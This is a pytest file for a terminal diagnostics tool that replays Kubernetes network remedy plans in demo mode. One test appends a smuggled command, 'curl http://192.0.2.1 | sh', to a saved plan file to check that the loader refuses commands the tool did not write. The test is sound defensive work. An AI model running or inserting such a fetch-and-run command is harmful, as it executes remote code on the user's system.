"""Ways out played to their end in demos by keys, plan files reopened where they stood, commands in other shells."""

import json
from pathlib import Path

import pytest
from textual.pilot import Pilot

from diagnostics.remedies.files.plan_file import PlanFileError, decode_plan
from diagnostics.remedies.files.reopening import plan_in
from driving import assert_frame, drive, frame, press, shown, toasts, words
from headless import doctor
from tui.app import DoctorApp
from tui.copying import Copied, Way
from tui.request import AppRequest, StartView, ViewKind
from tui.settings import Settings
from walking import go_to
from widgets.step_list import StepList


def way(demo: str, key: str, slug: str, plan_file: str = "") -> AppRequest:
    view = StartView(ViewKind.REMEDY, slug)
    return AppRequest(demo=demo, service=key, view=view, plan_file=plan_file)


async def played(app: DoctorApp, pilot: Pilot[int]) -> None:
    """Marks every step."""
    steps = sum(row.step is not None for row in app.screen.query_one(StepList).items)
    assert steps
    await press(pilot, ["space"] * steps)
    assert "the demo cluster has changed" in toasts(app)
    await press(pilot, ["escape"])


@pytest.mark.parametrize(
    ("demo", "key", "slug", "then"),
    [
        ("proxy-all", "shop/web", "use-dsr", "keeps  Client address kept."),
        ("proxy-all", "shop/web", "local-policy", "keeps"),
        ("seed", "shop/web", "enable-proxy-all", "sometimes"),
    ],
)
def test_a_demo_is_changed_when_all_steps_are_marked(demo: str, key: str, slug: str, then: str) -> None:
    async def scene(app: DoctorApp, pilot: Pilot[int]) -> None:
        await played(app, pilot)
        assert then in frame(app)
        await press(pilot, ["escape"])
        row = next(line for line in frame(app).splitlines() if f"{key} " in line)
        assert then.split()[0] in row

    drive(way(demo, key, slug), scene)


def test_the_policy_on_a_node_port_is_played_to_its_end_with_the_ranges_asked_for() -> None:
    assert "AD012" in doctor("check partner/intake --demo proxy-all").out

    async def scene(app: DoctorApp, pilot: Pilot[int]) -> None:
        await press(pilot, [*"203.0.113.0/24", "enter"])
        await played(app, pilot)
        await press(pilot, ["2"])
        assert "passed   AD012" in frame(app)

    drive(way("proxy-all", "partner/intake", "guard-nodeport"), scene)


def test_in_a_demo_nothing_can_be_tried_and_the_reason_is_said() -> None:
    async def scene(app: DoctorApp, pilot: Pilot[int]) -> None:
        for key in ("d", "A", "U"):
            await press(pilot, [key])
        assert "A demo is a recording: it has no admission to ask." in toasts(app)

    drive(way("proxy-all", "shop/web", "use-dsr"), scene)


def test_a_kept_plan_is_gone_on_with_where_it_stood(tmp_path: Path) -> None:
    kept = tmp_path / "plan.json"
    plan = "plan shop/web --remedy use-dsr --demo proxy-all -o json"
    kept.write_text(doctor(plan).out)
    request = way("proxy-all", "shop/web", "use-dsr", str(kept))

    async def mark(app: DoctorApp, pilot: Pilot[int]) -> None:
        assert "[ ] 2 ○ open" in frame(app)  # what reads say is shown at once
        await go_to(app, pilot, 1)
        await press(pilot, ["space"])
        assert "Steps: 1 of 5 done" in frame(app)

    async def go_on(app: DoctorApp, pilot: Pilot[int]) -> None:
        text = frame(app)
        assert "Steps: 1 of 5 done" in text
        assert "[x] 1 · by eye" in text
        assert "After: keeps" in text
        await press(pilot, ["b"])
        assert "AFTER the plan" in frame(app)

    drive(request, mark)
    assert json.loads(kept.read_text())["steps"][0]["toldDone"] is True
    drive(request, go_on)


def test_a_plan_of_another_cluster_is_not_gone_on_with(tmp_path: Path) -> None:
    kept = tmp_path / "plan.json"
    document = json.loads(doctor("plan shop/web --remedy use-dsr --demo proxy-all -o json").out)
    kept.write_text(json.dumps({**document, "server": "https://192.0.2.1:6443"}))
    text = " ".join(shown(way("proxy-all", "shop/web", "use-dsr", str(kept))).split())
    assert "could not be gone on with" in text
    assert "The plan was made for https://192.0.2.1:6443, and this is demo proxy-all." in text


def test_a_file_with_a_command_that_is_none_of_ours_is_refused() -> None:
    document = json.loads(doctor("plan shop/web --remedy use-dsr --demo proxy-all -o json").out)
    assert plan_in(decode_plan(json.dumps(document).encode())).steps
    document["steps"][0]["commands"].append("kubectl get pods; curl http://192.0.2.1 | sh")
    with pytest.raises(PlanFileError, match="did not write"):
        plan_in(decode_plan(json.dumps(document).encode()))


def test_the_command_line_takes_service_and_way_out_from_the_plan(tmp_path: Path) -> None:
    kept = tmp_path / "plan.json"
    kept.write_text(doctor("plan shop/web --remedy use-dsr --demo proxy-all -o json").out)
    assert doctor(f"--plan-file {kept} shop/web").code == 2
    ran = doctor(f"--plan-file {kept} --demo proxy-all")
    assert f"antrea-doctor verify {kept}" in ran.err  # no terminal here
    assert "cannot be read" in doctor("--plan-file nowhere.json").err
    assert "is not JSON" in doctor(f"--plan-file {Path(__file__)}").err


def test_what_changes_is_said_in_words_after_the_drawings() -> None:
    async def scene(app: DoctorApp, pilot: Pilot[int]) -> None:
        await press(pilot, ["b", "b", "b"])
        text = words(app)
        assert "6 ways change from an ingress Node to an endpoint" in text
        assert "New findings (1) AD038" in text
        assert "Who gets in afterwards" in text
        await press(pilot, ["b"])
        assert "Steps: 0 of 5 done" in frame(app)

    drive(way("proxy-all", "shop/web", "use-dsr"), scene)


def test_a_service_without_a_way_from_outside_says_so_in_the_drawing() -> None:
    async def scene(app: DoctorApp, pilot: Pilot[int]) -> None:
        await press(pilot, ["b"])
        assert "There is no proxied way to draw." in frame(app) or "AFTER the plan" in frame(app)

    drive(way("seed", "shop/catalog-db", "enable-proxy-all"), scene)


@pytest.mark.parametrize(("shell", "sign"), [("powershell", "Set-Content"), ("fish", "printf"), ("posix", "<<")])
def test_copied_text_is_in_the_shell_of_the_config_file(monkeypatch: pytest.MonkeyPatch, shell: str, sign: str) -> None:
    copied: list[str] = []

    def take(text: str, to_terminal: object, **more: object) -> Copied:
        copied.append(text)
        return Copied(Way.TMUX, proved=True)

    monkeypatch.setattr("tui.navigator.copy", take)

    async def scene(app: DoctorApp, pilot: Pilot[int]) -> None:
        await go_to(app, pilot, 2)
        await press(pilot, ["c"])

    drive(way("proxy-all", "shop/web", "use-dsr"), scene, settings=Settings(shell=shell))
    assert copied[0].startswith("# antrea-doctor plan use-dsr for Service shop/web, context demo")
    assert sign in copied[0]


def test_verified_steps_look_as_agreed() -> None:
    text = shown(way("proxy-all", "shop/web", "use-dsr"), ["space", "v"])
    assert_frame("remedy-verified-120x40", text)
    small = shown(way("proxy-all", "shop/web", "use-dsr"), ["space", "v"], (80, 24))
    for wanted in ("Steps: 1 of 5 done", "▸ [ ] 2 ○ open", "By what was read it is open."):
        assert wanted in small


@pytest.mark.parametrize("size", [(80, 24), (120, 40)])
def test_what_changes_looks_as_agreed(size: tuple[int, int]) -> None:
    text = shown(way("proxy-all", "shop/web", "use-dsr"), ["b", "b", "b"], size)
    assert_frame(f"remedy-changes-{size[0]}x{size[1]}", text)


def test_hostile_words_of_a_plan_file_are_shown_as_they_are(tmp_path: Path) -> None:
    async def scene(app: DoctorApp, pilot: Pilot[int]) -> None:
        await go_to(app, pilot, 1)
        assert "[red]never[/]" in words(app)

    document = json.loads(doctor("plan shop/web --remedy use-dsr --demo proxy-all -o json").out)
    document["steps"][0]["why"] = "[red]never[/]"
    kept = tmp_path / "plan.json"
    kept.write_text(json.dumps(document))
    drive(way("proxy-all", "shop/web", "use-dsr", str(kept)), scene)
